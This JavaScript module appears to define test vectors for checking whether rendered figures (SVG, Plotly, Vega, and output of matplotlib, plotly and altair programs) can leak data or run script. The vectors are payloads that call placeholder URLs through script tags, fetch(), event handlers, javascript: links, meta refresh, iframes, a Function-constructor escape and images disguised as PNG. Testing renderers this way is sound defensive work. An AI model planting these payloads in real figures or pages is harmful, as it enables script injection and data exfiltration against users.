// Figures that would load, run or lead somewhere: SVG as a program may hand it out, and data for plotly and vega.
import { forges, literal, tries } from "../vector.mjs";

const svg = (/** @type {string} */ inner, /** @type {string} */ more = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="640" height="400" viewBox="0 0 640 400"${more}>${inner}</svg>`;
const xhtml = (/** @type {string} */ inner) =>
  `<foreignObject width="640" height="400"><html xmlns="http://www.w3.org/1999/xhtml">${inner}</html></foreignObject>`;
const GET = "fetch('@URL@', {mode: 'no-cors'})";
const LINK = '<rect width="640" height="400" fill="#8af"/>';

/** Of those whose link opens a window of its own, as plotly's do unless they say another. */
const NO_WINDOW = { webkit: "opens no window for a click that a script made" };

/** @type {[name: string, picture: string, more?: {absent?: Record<string, string>, click?: boolean}][]} */
const PICTURES = [
  ["script", svg(`<script>${GET}</script>`)],
  ["script-href", svg('<script href="@URL@?type=text/javascript"/>')],
  ["onload", svg("", ` onload="${GET}"`)],
  ["animate-onbegin", svg(`<animate attributeName="x" dur="1s" onbegin="${GET}"/>`)],
  [
    "set-href",
    svg('<image width="9" height="9"><set attributeName="href" to="@URL@"/></image>'),
    { absent: { webkit: "animates no addresses" } },
  ],
  ["image", svg('<image href="@URL@" width="9" height="9"/>')],
  ["image-xlink", svg('<image xlink:href="@URL@" width="9" height="9"/>')],
  ["image-by-name", svg('<image href="@NAMED@" width="9" height="9"/>')],
  ["use", svg('<use href="@APP@/plain/sprite.svg?@TOKEN@#a"/>')],
  ["fe-image", svg('<filter id="f"><feImage href="@URL@"/></filter><rect width="9" height="9" filter="url(#f)"/>')],
  ["style-import", svg("<style>@import url(@URL@?type=text/css);</style>")],
  [
    "style-font",
    svg(
      "<style>@font-face { font-family: leak; src: url(@URL@) } text { font-family: leak }</style><text y='20'>x</text>",
    ),
  ],
  ["style-attribute", svg(xhtml('<body><p style="background: url(@URL@)">x</p></body>'))],
  ["stylesheet-instruction", `<?xml-stylesheet type="text/css" href="@URL@?type=text/css"?>${svg("")}`],
  ["link-element", svg('<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="@URL@?type=text/css"/>')],
  ["foreign-img", svg(xhtml('<body><img src="@URL@"/></body>'))],
  ["foreign-iframe", svg(xhtml('<body><iframe src="@URL@"></iframe></body>'))],
  ["foreign-script", svg(xhtml(`<body><script>${GET}</script></body>`))],
  ["foreign-meta-refresh", svg(xhtml('<head><meta http-equiv="refresh" content="0;url=@URL@"/></head>'))],
  ["foreign-preconnect", svg(xhtml('<head><link rel="preconnect" href="http://@HOST@:@RAW@/"/></head>'))],
  [
    "foreign-dns-prefetch",
    svg(xhtml('<head><link rel="dns-prefetch" href="http://@HOST@/"/></head>')),
    { absent: { webkit: "looks up no name ahead for a link within an SVG" } },
  ],
  ["foreign-video", svg(xhtml('<body><video src="@URL@" autoplay="" muted=""></video></body>'))],
  ["mask", svg('<rect width="9" height="9" style="mask-image: url(@URL@)"/>')],
  [
    "external-filter",
    svg('<rect width="9" height="9" filter="url(@APP@/plain/sprite.svg?@TOKEN@#f)"/>'),
    { absent: { webkit: "loads no filter from elsewhere" } },
  ],
  ["link", svg(`<a href="@URL@">${LINK}</a>`), { click: true }],
  ["link-new-window", svg(`<a href="@URL@" target="_blank">${LINK}</a>`), { click: true, absent: NO_WINDOW }],
  ["link-javascript", svg(`<a href="javascript:${GET}">${LINK}</a>`), { click: true }],
  ["link-top", svg(`<a href="@URL@" target="_top">${LINK}</a>`), { click: true }],
];

/** @type {[name: string, spec: object, more?: {absent?: Record<string, string>, click?: boolean}][]} */
const PLOTLY = [
  [
    "layout-image",
    {
      data: [],
      layout: { images: [{ source: "@URL@", xref: "paper", yref: "paper", x: 0, y: 1, sizex: 1, sizey: 1 }] },
    },
  ],
  [
    "image-trace",
    { data: [{ type: "image", source: "@URL@" }], layout: {} },
    { absent: { any: "plotly takes only data addresses here" } },
  ],
  [
    "image-by-name",
    {
      data: [],
      layout: { images: [{ source: "@NAMED@", xref: "paper", yref: "paper", x: 0, y: 1, sizex: 1, sizey: 1 }] },
    },
  ],
  [
    "title-link",
    {
      data: [{ y: [1, 2] }],
      layout: { title: { text: '<a href="@URL@">LINK LINK LINK LINK LINK LINK</a>', font: { size: 40 } } },
    },
    { click: true, absent: NO_WINDOW },
  ],
  [
    "title-link-by-name",
    { data: [{ y: [1, 2] }], layout: { title: { text: '<a href="http://@HOST@/">LINK</a>', font: { size: 40 } } } },
    { absent: { any: "looks up no name of a link that nobody follows" } },
  ],
  [
    "title-link-blank",
    {
      data: [{ y: [1, 2] }],
      layout: {
        title: { text: '<a href="@URL@" target="_blank">LINK LINK LINK LINK LINK LINK</a>', font: { size: 40 } },
      },
    },
    { click: true, absent: NO_WINDOW },
  ],
  [
    "title-link-top",
    {
      data: [{ y: [1, 2] }],
      layout: {
        title: { text: '<a href="@URL@" target="_top">LINK LINK LINK LINK LINK LINK</a>', font: { size: 40 } },
      },
    },
    { click: true },
  ],
  [
    "map-tiles",
    { data: [{ type: "scattermap", lon: [1], lat: [1] }], layout: { map: { style: "@URL@?type=application/json" } } },
    { absent: { firefox: "draws no maps where it runs without WebGL" } },
  ],
  [
    "geo-topojson",
    {
      data: [{ type: "scattergeo", lon: [1], lat: [1] }],
      layout: { geo: { scope: "europe" } },
      config: { topojsonURL: "@URL@/" },
    },
    {},
  ],
  [
    "updatemenu-image",
    {
      data: [{ y: [1] }],
      layout: {
        updatemenus: [
          {
            type: "buttons",
            active: 0,
            buttons: [{ method: "relayout", label: "x", args: [{ "images[0].source": "@URL@" }] }],
          },
        ],
      },
      frames: [{ name: "f", layout: { images: [{ source: "@URL@" }] } }],
    },
    { absent: { any: "waits for a click" } },
  ],
  [
    "template-image",
    {
      data: [{ y: [1] }],
      layout: {
        template: {
          layout: { images: [{ source: "@URL@", xref: "paper", yref: "paper", x: 0, y: 1, sizex: 1, sizey: 1 }] },
        },
      },
    },
    { absent: { any: "templates hold defaults of images, no images" } },
  ],
  [
    "font-family",
    { data: [{ y: [1] }], layout: { font: { family: "x; background: url(@URL@)" } } },
    { absent: { any: "is set as one property" } },
  ],
  [
    "style-in-text",
    {
      data: [{ y: [1], mode: "text", text: ['<span style="background: url(@URL@)">x</span>'] }],
      layout: { title: { text: '<span style="background-image: url(@URL@); cursor: url(@URL@)">x</span>' } },
    },
    { absent: { any: "text in SVG has no background" } },
  ],
];

/** @type {[name: string, spec: object, more?: {absent?: Record<string, string>, click?: boolean}][]} */
const VEGA = [
  ["data-url", { data: { url: "@URL@?type=application/json" }, mark: "point", encoding: {} }],
  ["data-url-csv", { data: { url: "@URL@", format: { type: "csv" } }, mark: "bar", encoding: {} }],
  ["data-url-by-name", { data: { url: "@NAMED@", format: { type: "csv" } }, mark: "bar", encoding: {} }],
  [
    "lookup-url",
    {
      data: { values: [{ a: 1 }] },
      transform: [{ lookup: "a", from: { data: { url: "@URL@?type=application/json" }, key: "a", fields: ["b"] } }],
      mark: "point",
      encoding: {},
    },
  ],
  ["topojson-url", { data: { url: "@URL@", format: { type: "topojson", feature: "x" } }, mark: "geoshape" }],
  [
    "image-mark",
    {
      data: { values: [{ u: "@URL@" }] },
      mark: { type: "image", width: 50, height: 50 },
      encoding: { url: { field: "u", type: "nominal" } },
    },
  ],
  [
    "image-mark-by-name",
    {
      data: { values: [{ u: "@NAMED@" }] },
      mark: { type: "image", width: 50, height: 50 },
      encoding: { url: { field: "u", type: "nominal" } },
    },
  ],
  [
    "href",
    {
      data: { values: [{ u: "@URL@" }] },
      width: 600,
      height: 300,
      mark: { type: "square", size: 90000 },
      encoding: { href: { field: "u", type: "nominal" } },
    },
    { click: true },
  ],
  [
    "href-javascript",
    {
      data: { values: [{ u: `javascript:${GET}` }] },
      width: 600,
      height: 300,
      mark: { type: "square", size: 90000 },
      encoding: { href: { field: "u", type: "nominal" } },
    },
    { click: true, absent: { any: "vega's loader refuses the scheme" } },
  ],
  [
    "expression-constructor",
    {
      $schema: "https://vega.github.io/schema/vega/v6.json",
      width: 9,
      height: 9,
      signals: [{ name: "x", update: `[].constructor.constructor("${GET}")()` }],
    },
    { absent: { any: "vega knows no such call" } },
  ],
  [
    "expression-event",
    {
      $schema: "https://vega.github.io/schema/vega/v6.json",
      width: 9,
      height: 9,
      signals: [{ name: "x", value: 0, on: [{ events: "window:pointermove", update: "event.view.fetch('@URL@')" }] }],
    },
    { absent: { any: "vega knows no such call" } },
  ],
  [
    "bind-image-input",
    {
      $schema: "https://vega.github.io/schema/vega/v6.json",
      width: 9,
      height: 9,
      signals: [{ name: "x", value: 0, bind: { input: "image", src: "@URL@" } }],
    },
  ],
  [
    "bind-style",
    {
      $schema: "https://vega.github.io/schema/vega/v6.json",
      width: 9,
      height: 9,
      signals: [{ name: "x", value: 0, bind: { input: "text", style: "background: url(@URL@)" } }],
    },
  ],
  [
    "gradient-style",
    { data: { values: [{}] }, mark: { type: "bar", fill: "url(@URL@#x)" } },
    { absent: { firefox: "loads nothing for a colour", webkit: "loads nothing for a colour" } },
  ],
  [
    "vega-data-url",
    {
      $schema: "https://vega.github.io/schema/vega/v6.json",
      width: 9,
      height: 9,
      data: [{ name: "t", url: "@URL@", format: { type: "csv" } }],
    },
  ],
  [
    "vega-data-signal-url",
    {
      $schema: "https://vega.github.io/schema/vega/v6.json",
      width: 9,
      height: 9,
      signals: [{ name: "u", value: "@URL@" }],
      data: [{ name: "t", url: { signal: "u" }, format: { type: "csv" } }],
    },
  ],
];

const spread = (/** @type {{absent?: Record<string, string>, click?: boolean} | undefined} */ more) => ({
  ...(more?.absent && { absent: more.absent }),
  ...(more?.click && { click: true, linger: 700 }),
});

/** What the libraries themselves hand out when a program asks them to. @type {import("../vector.mjs").Vector[]} */
const BY_LIBRARY = [
  {
    id: "svg/matplotlib-url",
    program: tries(
      'import matplotlib.pyplot as plt\nplt.figtext(0.1, 0.5, "LINK LINK LINK LINK", fontsize=60, url="@URL@")\nprint("tried @TOKEN@")',
    ),
    control: { svg: svg(`<a href="@URL@">${LINK}</a>`), click: true },
    click: true,
  },
  {
    id: "svg/matplotlib-gid",
    program: tries(
      `import matplotlib.pyplot as plt\nplt.plot([1, 2], gid=${literal(`"><script>${GET}</script><g id="`)})\nprint("tried @TOKEN@")`,
    ),
    control: { svg: svg(`<script>${GET}</script>`) },
  },
  {
    id: "svg/matplotlib-metadata",
    program: tries(
      'import matplotlib.pyplot as plt\nfrom matplotlib.backends.backend_svg import RendererSVG\ninit = RendererSVG.__init__\ndef patched(self, *a, **k):\n    init(self, *a, **k)\n    self.writer.element("image", attrib={"href": "@URL@", "width": "9", "height": "9"})\nRendererSVG.__init__ = patched\nplt.plot([1, 2])\nprint("tried @TOKEN@")',
    ),
    control: { svg: svg('<image href="@URL@" width="9" height="9"/>') },
  },
  {
    id: "plotly/by-library",
    program: tries(
      'import plotly.graph_objects as go\nprint("tried @TOKEN@")\nfig = go.Figure(go.Scatter(y=[1, 2]))\nfig.add_layout_image(source="@URL@", xref="paper", yref="paper", x=0, y=1, sizex=1, sizey=1)\nfig.show()',
    ),
    control: {
      plotly: JSON.stringify({
        data: [],
        layout: { images: [{ source: "@URL@", xref: "paper", yref: "paper", x: 0, y: 1, sizex: 1, sizey: 1 }] },
      }),
    },
    linger: 400,
  },
  {
    id: "vega/by-library",
    program: tries('import altair as alt\nprint("tried @TOKEN@")\nchart = alt.Chart("@URL@").mark_point()\nchart'),
    control: { vega: JSON.stringify({ data: { url: "@URL@", format: { type: "csv" } }, mark: "point", encoding: {} }) },
    linger: 400,
  },
  {
    id: "png/html-in-disguise",
    program: forges(
      `forge(result([figure("png", png=part(to_js(b"<html><img src='@URL@'></html>")), width=9, height=9)]))`,
    ),
    control: { markup: '<img src="@URL@">' },
    proof: "any",
  },
  {
    id: "png/svg-in-disguise",
    program: forges(
      `forge(result([figure("png", png=part(to_js(${literal(svg('<image href="@URL@" width="9" height="9"/>'))}.encode())), width=9, height=9)]))`,
    ),
    control: { svg: svg('<image href="@URL@" width="9" height="9"/>') },
    proof: "any",
  },
];

/** @type {import("../vector.mjs").Vector[]} */
export const figures = [
  ...PICTURES.map(([name, picture, more]) => ({
    id: `svg/${name}`,
    program: forges(`forge_svg(${literal(picture)})`),
    control: { svg: picture, ...(more?.click && { click: true }) },
    ...spread(more),
  })),
  ...PLOTLY.map(([name, spec, more]) => ({
    id: `plotly/${name}`,
    program: forges(`forge_spec("plotly", ${literal(JSON.stringify(spec))})`),
    control: { plotly: JSON.stringify(spec), ...(more?.click && { click: true }) },
    linger: 400,
    ...spread(more),
  })),
  ...VEGA.map(([name, spec, more]) => ({
    id: `vega/${name}`,
    program: forges(`forge_spec("vega", ${literal(JSON.stringify(spec))})`),
    control: { vega: JSON.stringify(spec), ...(more?.click && { click: true }) },
    linger: 400,
    ...spread(more),
  })),
  ...BY_LIBRARY,
];
